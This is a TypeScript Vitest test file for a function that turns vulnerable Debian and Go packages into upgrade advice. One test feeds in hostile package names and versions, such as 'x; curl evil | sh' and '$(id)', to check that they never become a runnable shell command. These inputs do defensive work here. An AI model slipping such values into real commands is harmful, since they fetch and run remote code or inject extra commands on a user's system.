import { expect, test } from 'vitest';
import type { Package } from '../model/package.ts';
import { remedyFor } from './remedy-for.ts';

const debian = (name: string): Package => ({ type: 'deb', name, version: '1.0' }) as Package;

test('a command to type holds no name or version that a shell would take apart', () => {
  expect(remedyFor(debian('libssl3t64'), '3.5.4-1~deb13u2')).toContain('--only-upgrade libssl3t64 &&');
  expect(remedyFor(debian('x; curl evil | sh'), '2')).toBe('Use x; curl evil | sh 2 or later');
  expect(remedyFor(debian('--option'), '2')).toBe('Use --option 2 or later');
  expect(remedyFor(debian('a'), '$(id)')).toBe('Use a $(id) or later');
});

test('what Go itself brings is mended by another Go, everything else by its module', () => {
  const go = (name: string): string => remedyFor({ type: 'golang', name, version: '1.0' } as Package, 'v1.24.4');
  expect(go('stdlib')).toBe('Build with Go v1.24.4 or later');
  expect(go('toolchain')).toBe('Build with Go v1.24.4 or later');
  expect(go('golang.org/x/net')).toBe('go get golang.org/x/net@v1.24.4, and build again');
});
